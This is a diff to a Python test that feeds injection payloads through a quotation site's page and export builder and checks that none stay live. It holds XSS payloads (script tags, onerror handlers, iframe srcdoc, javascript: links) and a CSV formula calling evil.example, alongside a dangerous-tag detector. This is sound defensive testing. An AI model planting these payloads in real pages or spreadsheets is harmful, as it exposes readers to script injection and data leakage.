@@ -1,6 +1,7 @@
 """Data is never markup: a copy of the real source list whose every text field carries an attack (a
-script, an image with an error handler, an iframe, an attribute breakout, a javascript: link in
-Markdown, an attribute list, emphasis, a formula) is checked, made into every page and download and the
+script, an image with an error handler, an iframe, an attribute breakout, a javascript: link and an
+image in Markdown, attribute lists, a footnote reference, emphasis, entities, a spreadsheet formula) is
+checked, made into every page and download and the
 offline exports' documents, and guarded, in this process; nothing in it is live, and every attack
 reaches a reader as the words it is. What cannot be shown as words is refused where it is written:
 a made-up quotation in any spelling of quotation marks, a hidden or reordering character, an address
@@ -47,11 +48,14 @@ from tools.site.prepare import downloads
 
 Field = tuple[str, str]  # (model, field)
 ATTACK = (
-    "{mark} <script>alert(document.domain)</script> <img src=x onerror=alert(document.domain)> "
+    # a spreadsheet formula first, as a cell would start with it
+    "=HYPERLINK(http://evil.example/?{mark}) {mark} <script>alert(document.domain)</script> "
+    "<img src=x onerror=alert(document.domain)> "
     "<iframe srcdoc=&lt;script&gt;alert(document.domain)&lt;/script&gt;></iframe> "
     # (each ' after a word: a single-quoted attribute's break-out, which is no quotation mark)
     "x' onmouseover=alert(document.domain) x=y' [here](javascript:alert(document.domain)) "
-    "{{: onclick=alert(document.domain) }} *em* &amp; =HYPERLINK(evil)"
+    "![pixel](https://evil.example/pixel.png) {{: onclick=alert(document.domain) }} {{: #planted }} [^note] "
+    "*em* &amp; &amp;lt;b&amp;gt; =HYPERLINK(evil)"
 )
 PER_FIELD = 2  # values attacked in each field: every field, not every value (the guard reads them all alike)
 SHOWN = "<script>alert(document.domain)</script> <img src=x onerror=alert(document.domain)>"
@@ -204,12 +208,17 @@ def documents(result: Result, trees: dict[str, ET.Element], project: Path) -> di
 
 
 def live(root: ET.Element) -> list[str]:
-    """What a browser would run or load from this tree, read here independently of the guard."""
+    """What a browser would run or load from this tree, or what Markdown would have made of the
+    attack (a footnote, an id), read here independently of the guard."""
     found = []
     for element in root.iter():
         tag = local(element.tag)
-        if tag in ("script", "iframe", "object", "embed", "img", "base", "form", "frame", "style"):
+        if tag in ("script", "iframe", "object", "embed", "img", "base", "form", "frame", "style", "sup"):
             found.append(f"<{tag}>")
+        if element.get("id") in ("planted", "fnref:note") or (element.get("href") or "").startswith(
+            ("https://evil", "http://evil")
+        ):
+            found.append(f"<{tag} {element.get('id') or element.get('href')}>")
         for name, value in element.attrib.items():
             name = local(name).lower()
             if name.startswith("on") or name in ("srcdoc", "style", "formaction"):
@@ -270,7 +279,7 @@ def test_the_data_files_are_data(attacked: Attacked) -> None:
     rows = list(csv.reader(io.StringIO(attacked.files["quotations.csv"])))
     cells = [cell for row in rows[1:] for cell in row]
     assert [c for c in cells if c.startswith(CSV_FORMULA_START)] == []
-    assert any(c.startswith("'HOSTILE") or "=HYPERLINK(evil)" in c for c in cells)
+    assert any(c.startswith("'=HYPERLINK(http://evil.example/?HOSTILE-") for c in cells)  # shown, never run
     data = json.loads(attacked.files["quotations.json"])
     assert all(isinstance(row, dict) for row in data)
     assert "HOSTILE-" in json.dumps(json.loads(attacked.files["edition.csl.json"]), ensure_ascii=False)
